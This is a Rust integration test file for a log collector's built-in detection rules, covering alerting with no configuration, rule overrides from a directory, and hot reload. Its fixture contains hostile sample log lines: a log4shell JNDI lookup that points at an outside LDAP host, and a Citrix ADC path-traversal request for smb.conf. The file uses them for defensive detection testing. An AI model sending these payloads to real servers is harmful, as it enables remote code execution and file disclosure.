//! The default pack, compiled into the binary, running in a collector
//! that was told nothing about rules: attacks shipped by the real agent
//! become alerts (`alerts list`, `GET /api/v1/alerts`), `status` and the
//! alert list say that nobody is paged, and a rules directory adds to the
//! pack, replaces its rules by id and still hot-reloads.

use crate::common;

use std::fs;

use common::*;

/// One log4shell probe, a brute force on /login, a Citrix ADC traversal
/// (a rule of the Sigma part of the pack), a few minutes ago.
fn attacks() -> String {
    let t = now_unix() - 300;
    let mut text = format!(
        "192.0.2.150 - - [{}] \"GET / HTTP/1.1\" 200 100 \"-\" \"${{jndi:ldap://198.51.100.9:1389/x}}\"\n",
        nginx_time(t, 0)
    );
    for i in 0..30 {
        text.push_str(&format!(
            "203.0.113.9 - - [{}] \"POST /login HTTP/1.1\" 401 100 \"-\" \"python-requests/2.31\"\n",
            nginx_time(t + 1 + i, 0)
        ));
    }
    text.push_str(&format!(
        "203.0.113.90 - - [{}] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200 10 \"-\" \"curl/7.68\"\n",
        nginx_time(t + 40, 0)
    ));
    text
}

fn ship(c: &Collector, name: &str, text: &str) -> u64 {
    let file = c.root.join(format!("{name}.log"));
    fs::write(&file, text).expect("writing the log");
    let (status, stderr) = c.run_agent_once(name, &c.root.join(format!("{name}-state")), &[&file]);
    assert!(status.success(), "agent failed: {stderr}");
    text.lines().count() as u64
}

fn cli(c: &Collector, args: &[&str]) -> (String, String) {
    let out = c.cli_as(&c.token_file, args);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{args:?}: {stdout}\n{stderr}");
    (stdout, stderr)
}

/// Rule ids of the alerts `alerts list --json` prints.
fn alert_rules(c: &Collector) -> Vec<String> {
    let (stdout, _) = cli(c, &["alerts", "list", "--json"]);
    stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|a| a["rule_id"].as_str().map(str::to_string))
        .collect()
}

#[test]
fn with_nothing_configured_the_pack_detects_and_nobody_is_paged_is_said() {
    let root = tempfile::tempdir().expect("tempdir");
    let c = Collector::start(
        root.path(),
        Settings {
            builtin_rules: true,
            ..Settings::default()
        },
    );
    let config = fs::read_to_string(&c.config_path).expect("config");
    assert!(
        !config.contains("[rules]") && !config.contains("[alerting]"),
        "the collector must be told nothing about rules or paging: {config}"
    );
    // The whole pack, Sigma rules included, from the binary.
    let rules = c.api_json("/api/v1/rules");
    assert_eq!(rules["builtin"], true, "{rules}");
    assert!(rules["dir"].is_null(), "{rules}");
    let listed = rules["rules"].as_array().expect("rules");
    let pack = nightowl::detect::builtin::load_builtin().expect("the pack");
    assert_eq!(listed.len(), pack.len());
    assert!(
        listed.iter().any(|r| r["id"] == "web-route-slo-burn"),
        "{rules}"
    );
    let sigma = "5adeb833-9075-4500-b78c-9b6f025311a2";
    assert!(listed.iter().any(|r| r["id"] == sigma), "no Sigma rule");
    assert!(
        listed.iter().all(|r| r["source"]
            .as_str()
            .is_some_and(|s| s.starts_with("<builtin>/"))),
        "{rules}"
    );

    let n = ship(&c, "attacks", &attacks());
    c.wait_for_count("*", n);
    let want = ["web-log4shell", "web-login-brute-force", sigma];
    let got = wait_until("the attacks as alerts", || {
        let got = alert_rules(&c);
        want.iter()
            .all(|w| got.iter().any(|g| g == w))
            .then_some(got)
    });
    assert!(!got.is_empty());

    // Listed, and said plainly that nobody hears of them.
    let (table, note) = cli(&c, &["alerts", "list"]);
    assert!(table.contains("web-log4shell"), "{table}");
    assert!(note.contains("nobody is paged"), "{note}");
    let (status, _) = cli(&c, &["status"]);
    assert!(status.contains("health: ok"), "{status}");
    assert!(
        status.contains("! nobody is paged: no alert receiver is configured"),
        "{status}"
    );
    let paging = c.api_json("/api/v1/alerts")["paging"].clone();
    assert_eq!(paging["receivers"], 0, "{paging}");
    assert!(paging["nobody_paged"].is_string(), "{paging}");
}

#[test]
fn a_rules_dir_adds_to_the_pack_replaces_by_id_and_hot_reloads() {
    let root = tempfile::tempdir().expect("tempdir");
    let dir = root.path().join("rules");
    fs::create_dir_all(dir.join("team")).expect("mkdir");
    // Same id as an embedded rule: replaces it (here, switches it off).
    fs::write(
        dir.join("overrides.yaml"),
        "id: web-log4shell\ntitle: off here\nseverity: info\nenabled: false\ndetect: {kind: match}\n",
    )
    .expect("write");
    // In a sub-directory: loaded too.
    fs::write(
        dir.join("team").join("vpn.yaml"),
        "id: e2e-vpn\ntitle: vpn probed\nseverity: warning\n\
         match: {field: path, startswith: /vpn}\ndetect: {kind: match, key: client_ip}\n",
    )
    .expect("write");
    let c = Collector::start(
        root.path(),
        Settings {
            builtin_rules: true,
            rules_dir: Some(dir.clone()),
            ..Settings::default()
        },
    );
    let pack = nightowl::detect::builtin::load_builtin()
        .expect("the pack")
        .len() as f64;
    // The pack, one rule off, one added.
    assert_eq!(c.metric("nightowl_rules_loaded"), pack);
    let rules = c.api_json("/api/v1/rules");
    assert_eq!(rules["builtin"], true, "{rules}");
    let log4shell = rules["rules"]
        .as_array()
        .and_then(|l| l.iter().find(|r| r["id"] == "web-log4shell").cloned())
        .expect("listed");
    assert_eq!(log4shell["enabled"], false, "{log4shell}");
    assert!(
        log4shell["source"]
            .as_str()
            .is_some_and(|s| s.contains("overrides.yaml")),
        "{log4shell}"
    );

    // A new file in the directory is picked up without a restart.
    fs::write(
        dir.join("team").join("smb.yaml"),
        "id: e2e-smb\ntitle: smb.conf asked for\nseverity: warning\n\
         match: {field: path, contains: smb.conf}\ndetect: {kind: match, key: client_ip}\n",
    )
    .expect("write");
    wait_until("the reload of the new file", || {
        (c.metric("nightowl_rules_loaded") == pack + 1.0).then_some(())
    });

    let n = ship(&c, "attacks", &attacks());
    c.wait_for_count("*", n);
    let got = wait_until("the firings", || {
        let got = alert_rules(&c);
        ["web-login-brute-force", "e2e-vpn", "e2e-smb"]
            .iter()
            .all(|w| got.iter().any(|g| g == w))
            .then_some(got)
    });
    assert!(
        !got.iter().any(|g| g == "web-log4shell"),
        "the directory switched it off: {got:?}"
    );
}

/// The embedded pack can be turned off; then only the directory runs.
#[test]
fn no_builtin_rules_runs_the_directory_alone() {
    let root = tempfile::tempdir().expect("tempdir");
    let dir = root.path().join("rules");
    fs::create_dir_all(&dir).expect("mkdir");
    fs::write(
        dir.join("one.yaml"),
        "id: e2e-one\ntitle: one\nseverity: info\ndetect: {kind: match}\n",
    )
    .expect("write");
    let c = Collector::start(
        root.path(),
        Settings {
            builtin_rules: false,
            rules_dir: Some(dir),
            ..Settings::default()
        },
    );
    assert_eq!(c.metric("nightowl_rules_loaded"), 1.0);
    assert_eq!(c.api_json("/api/v1/rules")["builtin"], false);
}
